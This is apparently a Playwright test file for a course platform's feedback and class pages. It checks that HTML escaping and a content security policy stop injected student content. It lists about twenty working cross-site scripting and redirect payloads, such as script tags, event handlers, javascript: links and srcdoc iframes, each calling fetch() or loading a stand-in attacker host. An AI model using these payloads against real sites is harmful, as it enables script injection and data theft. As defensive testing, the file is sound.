"""What learners wrote, on the pages of a class, in the real browser: it is read, and does nothing.

Each attack is first shown to work where nothing is cleaned and no policy stands in the page's head.
"""

import pytest
from jinja2 import Environment, PackageLoader
from latex2mathml.converter import convert
from markdown_it import MarkdownIt
from markupsafe import Markup
from mdit_py_plugins.dollarmath import dollarmath_plugin
from playwright.sync_api import sync_playwright

from course_lib.classroom import markup, page
from course_lib.classroom.class_page import class_page, write_class_pages
from course_lib.classroom.feedback import feedback_page, write_feedback
from course_lib.messages import t
from tests.classroom.class_rows import (
    ATTACKER,
    contestant,
    hostile,
    mistaken,
    picture,
    row,
    task,
    written,
)

PHONE, DESK = 390, 1100
HIT = f"{ATTACKER}/NAME"  # with the attack's own name, so that each is seen to work
FETCH = f"fetch('{HIT}')"
ATTACKS = {  # in a written answer
    "script": f"<script>{FETCH}</script>",
    "dialog": "<script>alert(1)</script>",
    "handler": f'<img src="x:" onerror="{FETCH}">',
    "svg": f'<svg onload="{FETCH}"></svg>',
    "toggle": f'<details open ontoggle="{FETCH}"><summary>a</summary></details>',
    "focus": f'<input autofocus onfocus="{FETCH}">',
    "picture": f'<img src="{HIT}">',
    "markdown_picture": f"![plot]({HIT})",
    "style": f"<style>body {{ background: url({HIT}) }}</style>",
    "style_attribute": f'<p style="background: url({HIT})">seen</p>',
    "stylesheet": f'<link rel="stylesheet" href="{HIT}">',
    "poster": f'<video poster="{HIT}"></video>',
    "frame": f'<iframe src="{HIT}"></iframe>',
    "data_frame": f'<iframe src="data:text/html,&lt;script&gt;{FETCH}&lt;/script&gt;"></iframe>',
    "inner_frame": f'<iframe srcdoc="<script>{FETCH}</script>"></iframe>',
    "object": f'<object data="{HIT}"></object>',
    "maths": rf"$\text{{<script>{FETCH}</script>}}$",
    "script_link": f'<a href="javascript:{FETCH}">press-me</a>',
    "base": f'<base href="{ATTACKER}/"><img src="NAME">',
}
LEAVING = {  # they take the reader elsewhere
    "refresh": f'<meta http-equiv="refresh" content="0;url={HIT}">',
    "link": f'<a href="{HIT}">press-me</a>',
    "markdown_link": f"[press-me]({HIT})",
    "form": f'<form action="{HIT}"><button name="a">press-me</button></form>',
}
ON_BOTH = {"student", "notebook", "assignment", "remark", "task", "run_reason", "measuring_failed"}
ON_BOTH |= {"kind_of_strategy", "strategy"}
ON_FEEDBACK = ON_BOTH | {
    "sha256",
    "reason",
    "diagnosis",
    "picture",
    "picture_alt",
    "label",
    "cell",
    "other_cell",
}
ON_FEEDBACK |= {"evidence", "written", "asked", "text", "comment"}
ON_CLASS = ON_BOTH | {"name", "mistake"}


@pytest.fixture(scope="module")
def chromium(system_tool):
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=system_tool("chromium"), args=["--no-sandbox"])
        yield running
        running.close()


@pytest.fixture
def show(chromium, tmp_path):
    """`show(html)`: the page, on which `hits` lists what left it or popped up, `errors` what failed."""
    opened = []

    def open_page(html, width=PHONE, **options):
        path = tmp_path / f"{len(opened)}.html"
        path.write_text(html, encoding="utf-8")
        shown = chromium.new_page(viewport={"width": width, "height": 800}, **options)
        opened.append(shown)
        shown.hits, shown.errors = [], []
        shown.route(lambda url: not url.startswith(("file:", "data:")), _refuse(shown))
        shown.on("dialog", lambda dialog: (shown.hits.append("dialog"), dialog.dismiss()))
        shown.on("console", lambda m: shown.errors.append(m.text) if m.type in ("error", "warning") else None)
        shown.on("pageerror", lambda error: shown.errors.append(str(error)))
        shown.goto(path.as_uri(), wait_until="commit")  # a refresh may come before the page is loaded
        return shown

    yield open_page
    for shown in opened:
        shown.close()


def _refuse(shown):
    def refuse(route):
        shown.hits.append(route.request.url.removeprefix(f"{ATTACKER}/").split("?")[0])
        route.abort()

    return refuse


@pytest.fixture
def uncleaned(monkeypatch):
    """Nothing is escaped and nothing is cleaned; the policy stands."""
    reader = MarkdownIt("commonmark")
    dollarmath_plugin(reader, renderer=lambda latex, _: convert(latex))
    careless = Environment(loader=PackageLoader("course_lib.classroom"), autoescape=False)
    careless.globals, careless.filters = page.environment().globals, page.environment().filters
    monkeypatch.setattr(page, "environment", lambda: careless)
    monkeypatch.setattr(markup, "_rendered", lambda _, text: Markup(reader.render(text)))
    monkeypatch.setattr(markup, "png", lambda data: data)


@pytest.fixture
def without_policy(monkeypatch):
    monkeypatch.setattr(page, "POLICY", "")


def answer_page(attacks):
    """A page on which each attack stands in an answer of its own."""
    return feedback_page(
        row(written=[written(a.replace("NAME", name), name=name) for name, a in attacks.items()])
    )


def payload(field):
    return f'"><img src="x:" onerror="fetch(\'{ATTACKER}/{field}\')">'


def press(shown):
    """Press whatever asks to be pressed."""
    for found in shown.get_by_text("press-me").all():
        found.click(no_wait_after=True)


def settled(shown):
    """The page, when it is loaded and has had time to do what it would do."""
    shown.wait_for_load_state("load")
    shown.wait_for_timeout(300)
    return shown


def hit_by(shown, names):
    """Whether all these come from the page, within some seconds, and nothing else does."""
    for _ in range(200):
        if set(shown.hits) >= set(names):
            break
        shown.wait_for_timeout(50)
    return set(shown.hits) == set(names)


def test_the_attacks_run_where_nothing_is_cleaned(show, uncleaned, without_policy):
    shown = settled(show(answer_page(ATTACKS)))
    press(shown)
    assert hit_by(shown, ATTACKS), shown.hits


@pytest.mark.parametrize("name", LEAVING)
def test_the_reader_is_led_away_where_nothing_is_cleaned(name, show, uncleaned, without_policy):
    shown = show(answer_page({name: LEAVING[name]}))
    press(shown)
    assert hit_by(shown, [name]), shown.hits


def test_no_attack_runs_on_a_page_as_it_is(show):
    shown = settled(show(answer_page(ATTACKS | LEAVING)))
    press(shown)
    settled(shown)
    assert shown.hits == shown.errors == []
    assert shown.locator("#main").inner_text().count("press-me") == 4
    dangerous = "script, iframe, object, embed, form, input, base, link, video, [style], [onerror], main img"
    assert shown.locator(dangerous).count() == 0
    assert shown.locator("a:not([href^='#'])").count() == 0


def test_the_cleaning_alone_stops_them_all(show, without_policy):
    shown = settled(show(answer_page(ATTACKS | LEAVING)))
    press(shown)
    assert settled(shown).hits == []


def test_the_policy_alone_stops_all_but_links_and_refreshes(show, uncleaned):
    """What leads away no policy in a page can forbid, but for forms."""
    shown = settled(show(answer_page(ATTACKS | {"form": LEAVING["form"]})))
    press(shown)
    assert settled(shown).hits == []
    assert len(shown.errors) >= len(ATTACKS)  # Chromium names each that it refuses


@pytest.mark.parametrize(
    ("made", "fields"),
    [(lambda rows: feedback_page(rows[0]), ON_FEEDBACK), (lambda rows: class_page(rows, "en"), ON_CLASS)],
    ids=["feedback", "class"],
)
def test_no_field_of_a_row_can_act(made, fields, show, request):
    rows = [hostile(payload), hostile(payload, failed=False)]
    kept = settled(show(made(rows)))
    assert kept.hits == kept.errors == []
    assert kept.locator("[onerror]").count() == 0

    request.getfixturevalue("uncleaned")
    request.getfixturevalue("without_policy")
    careless = show(made(rows))
    assert hit_by(careless, fields), careless.hits


@pytest.mark.parametrize("made", [feedback_page, lambda row: class_page([row], "ko")])
def test_a_problem_can_not_act_either(made, show, request):
    unread = row(problem=payload("problem"))
    assert settled(show(made(unread))).hits == []
    request.getfixturevalue("uncleaned")
    request.getfixturevalue("without_policy")
    careless = show(made(unread))
    assert hit_by(careless, ["problem"]), careless.hits


def wide_rows(lang):
    """Rows that would push a page apart."""
    word = "a" * 3000
    table = "\n".join(f"{cell * 60}|" for cell in ("|a", "|-", "|b"))
    parts = [word, f"```\n{word}\n```", f"$$ {'x + ' * 300} y $$", table, "> " * 18 + "deep"]
    parts.append("\u202eright to left\u202c שלום עולם")
    said = {"asked": "## 왜?\n\n$\\mu$", "comment": "$\\frac{1}{2}$", "points": 1.5}
    answer = written("\n\n".join(parts), name=word[:80], **said)
    tasks = [task("adam", False), mistaken("momentum", "averages", lang), task("b" * 90)]
    one = row(f"{word[:90]}\u202e", tasks, lang, written=[answer], remarks=[word])
    one["cells"] = {"solution-adam": f"x = '{word}' # \u202e"}
    best = [contestant(f"student {k}", [0.9 - k / 40, 0.91 - k / 40], lang) for k in range(2)]
    failed = contestant(word[:70], [0.8, 0.0], lang, reasons={1: word})
    return [one, *best, failed, row("lee", [task("adam", False, points=0)], lang, problem=word)]


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_pages_fit_a_phone_and_say_their_language(lang, show, tmp_path):
    rows = wide_rows(lang)
    files = [*write_feedback(rows, tmp_path), tmp_path / f"class.{lang}.html"]
    write_class_pages(rows, tmp_path)
    for path in files:
        shown = show(path.read_text(encoding="utf-8"))
        shown.evaluate("document.querySelectorAll('details').forEach(it => it.open = true)")
        assert shown.evaluate("document.documentElement.scrollWidth") == PHONE, path
        assert shown.evaluate("document.documentElement.lang") == lang
        assert shown.hits == shown.errors == []
        names = "img:not([alt]), svg:not([aria-label]):not([aria-hidden]), svg[aria-label=''], img[alt='']"
        assert shown.locator(names).count() == 0
        assert shown.locator("h1").count() == 1


def test_colours_can_be_read_in_light_and_dark(show):
    """Every pair of ink and ground has the contrast that WCAG 2 asks of text, 4.5."""
    for scheme in ("light", "dark"):
        shown = show(feedback_page(row()), color_scheme=scheme)
        inks = shown.evaluate(_COLOURS, ["--ink", "--soft", "--right", "--wrong", "--accent"])
        grounds = shown.evaluate(_COLOURS, ["--paper", "--card", "--well", "--right-wash", "--wrong-wash"])
        assert min(_contrast(ink, ground) for ink in inks for ground in grounds) >= 4.5, scheme
        assert shown.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb({}, {}, {})".format(
            *grounds[0]
        )


_COLOURS = """names => names.map(name => {
  const text = getComputedStyle(document.documentElement).getPropertyValue(name).trim();
  return [1, 3, 5].map(i => parseInt(text.slice(i, i + 2), 16));
})"""


def _contrast(one, other):
    low, high = sorted(map(_luminance, (one, other)))
    return (high + 0.05) / (low + 0.05)


def _luminance(colour):
    parts = [c / 255 for c in colour]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
    return sum(w * c for w, c in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


def test_the_keyboard_opens_what_is_folded_and_print_shows_it(show):
    shown = show(feedback_page(row(tasks=[task("adam")])), DESK)
    code = shown.get_by_text("def adam(p, g):")
    assert not code.is_visible()
    shown.emulate_media(media="print")
    assert code.is_visible()
    shown.emulate_media(media="screen")
    shown.get_by_text(t("feedback.code"), exact=True).press("Enter")
    assert code.is_visible()


def test_pictures_stay_on_white_in_the_dark(show):
    drawn = task("adam", False, picture=picture(), picture_alt="falling")
    shown = show(feedback_page(row(tasks=[drawn])), DESK, color_scheme="dark")
    image = shown.locator("article img")
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") > 100
    assert image.evaluate("image => getComputedStyle(image).backgroundColor") == "rgb(255, 255, 255)"
